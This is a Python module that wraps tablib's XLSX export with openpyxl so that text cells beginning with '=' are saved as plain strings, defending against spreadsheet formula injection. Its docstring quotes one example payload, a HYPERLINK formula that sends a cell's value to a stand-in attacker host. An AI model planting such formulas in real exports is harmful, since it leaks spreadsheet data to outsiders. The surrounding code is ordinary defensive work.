"""XLSX cells whose text stays text.

openpyxl writes a string that starts with "=" as a formula, which a spreadsheet runs when the
file is opened: a party name such as =HYPERLINK("http://evil.example/?x="&A1,"Click") from a
partner's EPCIS master data would become a live link that sends the sheet's data away, and it
would read back as its computed value, not the name. Stored as a string cell, it is shown,
filtered and imported again exactly as written.
"""

from collections.abc import Iterable

from openpyxl.cell import Cell
from tablib import Dataset
from tablib.formats._xlsx import XLSXFormat


def keep_text(cells: Iterable[Cell]) -> None:
    """Store every text cell as a string cell, never a formula."""
    for cell in cells:
        if isinstance(cell.value, str):
            cell.data_type = "s"


class _TextCellsXLSXFormat(XLSXFormat):
    """tablib's XLSX writer (bold frozen headings, fitted columns), with text kept text."""

    @classmethod
    def dset_sheet(cls, dataset, ws, freeze_panes=True, escape=False):
        super().dset_sheet(dataset, ws, freeze_panes=freeze_panes, escape=escape)
        for row in ws.iter_rows():
            keep_text(row)


def xlsx_dataset_bytes(dataset: Dataset, **kwargs) -> bytes:
    """A tablib dataset as XLSX, as `dataset.export("xlsx")` writes it but with text as text."""
    return _TextCellsXLSXFormat.export_set(dataset, **kwargs)
